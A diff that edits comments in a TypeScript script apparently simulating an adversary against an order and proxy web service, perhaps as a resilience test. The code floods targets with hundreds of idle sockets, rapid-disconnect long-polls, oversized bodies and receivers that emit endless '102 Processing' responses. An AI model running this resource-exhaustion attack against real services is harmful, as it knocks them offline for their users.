@@ -2,20 +2,20 @@ import { createServer as createHttpServer, request } from 'node:http';
 import { type AddressInfo, connect, createServer, type Socket } from 'node:net';
 import { setTimeout as pause } from 'node:timers/promises';
 
-/** The knowledge of the adversary. Sent as the only argument, in JSON. */
+/** The only argument of the process, in JSON. */
 export interface Target {
   readonly baseUrls: readonly string[];
   readonly token: string;
-  /** An order of theirs that is being confirmed. */
+  /** This order of the adversary is being confirmed. */
   readonly orderId: string;
 }
 
-/** Another address than that of the honest customers. */
+/** The honest customers use another address. */
 const ADDRESS = '127.0.0.2';
 const SILENT_SOCKETS = 700;
 const PRICES = 150;
 const EXPORTS = 20;
-/** Unknown fields, 98 kB of them. */
+/** 98 kB of unknown fields. */
 const HUGE_BODY = JSON.stringify(Object.fromEntries(Array.from({ length: 9000 }, (_, n) => [`f${n}`, 1])));
 const PING = JSON.stringify({ filter: { proxy_type: 'socks' } });
 const REPLAY = JSON.stringify({ since: new Date(Date.now() - 3_600_000) });
@@ -24,11 +24,9 @@ const target = JSON.parse(process.argv[2] ?? '{}') as Target;
 interface Sent {
   readonly method?: string;
   readonly body?: string;
-  /** Without it the client reads the whole response. */
   readonly leaveAfterMs?: number;
 }
 
-/** Sends a request on a connection of its own, and returns when that is over, however it ends. */
 function send(
   baseUrl: string,
   path: string,
@@ -44,7 +42,6 @@ function send(
   });
 }
 
-/** Does something again and again, some at the same time, with a pause after each. */
 function keepDoing(
   atOnce: number,
   pauseMs: number,
@@ -63,7 +60,7 @@ function keepDoing(
   }
 }
 
-/** A receiver that sends interim responses without end, and one that writes on after its response. */
+/** One sends interim responses without end; the other writes on after its response. */
 async function startReceivers(): Promise<string[]> {
   const endless = createServer((socket: Socket) => {
     const flood = setInterval(() => socket.write('HTTP/1.1 102 Processing\r\n\r\n'.repeat(100)), 1);
@@ -102,10 +99,8 @@ async function attack(): Promise<void> {
     };
     for (let n = 0; n < SILENT_SOCKETS; n += 1) open();
   }
-  // Clients that leave after a millisecond.
   keepDoing(2, 5, (url) => send(url, `/orders/${target.orderId}?wait=30`, { leaveAfterMs: 1 }));
   keepDoing(2, 10, (url) => send(url, '/events?after=now&wait=30', { leaveAfterMs: 1 }));
-  // Clients that stay.
   keepDoing(120, 1000, (url) => send(url, `/orders/${target.orderId}?wait=30`));
   keepDoing(2, 50, (url) => send(url, '/proxies/ping', { method: 'POST', body: PING }));
   keepDoing(EXPORTS, 500, (url, n) =>
